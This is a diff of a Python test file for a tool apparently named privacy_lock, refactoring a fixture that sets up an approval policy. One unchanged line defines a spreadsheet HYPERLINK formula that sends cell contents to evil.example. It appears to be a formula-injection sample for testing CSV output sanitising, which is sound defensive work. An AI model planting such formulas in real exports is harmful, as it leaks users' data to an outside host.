@@ -24,7 +24,7 @@ from privacy_lock.output import write_outcomes
 from privacy_lock.pacing import Pacer
 from privacy_lock.render import csv_raw, csv_text, csv_text_read, printable, render
 from privacy_lock.requests import Request, load_requests
-from sns import IDENTITY, build_sns
+from sns import IDENTITY, build_sns, build_sns_under_stored_policy
 
 TICKET = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 OPERATOR = "@ops"
@@ -40,11 +40,7 @@ def sns(db_url, tmp_path):
 @pytest.fixture
 def approval_sns(db_url, tmp_path):
     """The test SNS under the stored default policy: a revert needs a second operator."""
-    sns = build_sns(db_url, tmp_path, init=False)
-    head = sns.config_path.read_text(encoding="utf-8").split("[policy]")[0]
-    sns.config_path.write_text(head, encoding="utf-8")
-    sns.run("init")
-    return sns
+    return build_sns_under_stored_policy(db_url, tmp_path)
 
 
 def run_env(sns, *args, env, expect=0):
